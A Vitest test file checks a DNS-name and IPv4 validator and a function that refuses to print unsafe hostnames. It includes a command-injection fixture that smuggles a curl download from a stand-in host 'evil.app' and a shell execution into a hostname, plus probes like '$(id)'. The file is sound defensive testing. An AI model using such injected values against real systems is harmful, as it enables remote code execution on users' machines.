import { describe, expect, it } from 'vitest';
import { isDnsName, isIpv4, printableHost } from '@/lib/core/dns-name';

/** A host the WHATWG URL parser keeps, which a shell runs when a line that prints it is pasted. */
const EXPLOIT = 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app';

describe('DNS names (lib/core/dns-name.ts)', () => {
  it("the review's host is a URL host, but no DNS name", () => {
    expect(new URL(`http://${EXPLOIT}:5173/`).hostname).toBe(EXPLOIT);
    expect(isDnsName(EXPLOIT)).toBe(false);
    expect(printableHost(EXPLOIT)).toBeNull();
  });

  it.each([
    ['devbox.test', true],
    ['my-app.localhost', true],
    ['3com.example', true],
    ['localhost', true],
    ['a'.repeat(63) + '.test', true],
    [`${'a'.repeat(61)}.`.repeat(4).slice(0, 247) + '.test', true],
    ['a'.repeat(64) + '.test', false],
    [`${'a.'.repeat(127)}ab`, false], // 256 characters
    ['', false],
    ['devbox.test.', false],
    ['.devbox.test', false],
    ['dev..test', false],
    ['-dev.test', false],
    ['dev-.test', false],
    ['dev_box.test', false],
    ['*.test', false],
    ['dev box.test', false],
    ['$(id).test', false],
    ["a'b.test", false],
    ['a&b.test', false],
    ['[::1]', false],
    ['xn--bcher-kva.example', true],
  ])('%j is a DNS name: %s', (name, expected) => {
    expect(isDnsName(name)).toBe(expected);
  });

  it.each([
    ['192.168.1.20', true],
    ['127.0.0.1', true],
    ['0.0.0.0', true],
    ['255.255.255.255', true],
    ['256.1.1.1', false],
    ['1.2.3', false],
    ['01.2.3.4', false],
    ['1.2.3.4.5', false],
    ['::1', false],
  ])('%j is IPv4: %s', (host, expected) => {
    expect(isIpv4(host)).toBe(expected);
  });

  it.each([
    ['devbox.test', 'devbox.test'],
    ['192.168.1.20', '192.168.1.20'],
    ['fd00::1', null],
    [EXPLOIT, null],
    ['a;b.test', null],
    ['a$b.test', null],
  ])('%j is printed as %j', (host, printed) => {
    expect(printableHost(host)).toBe(printed);
  });
});
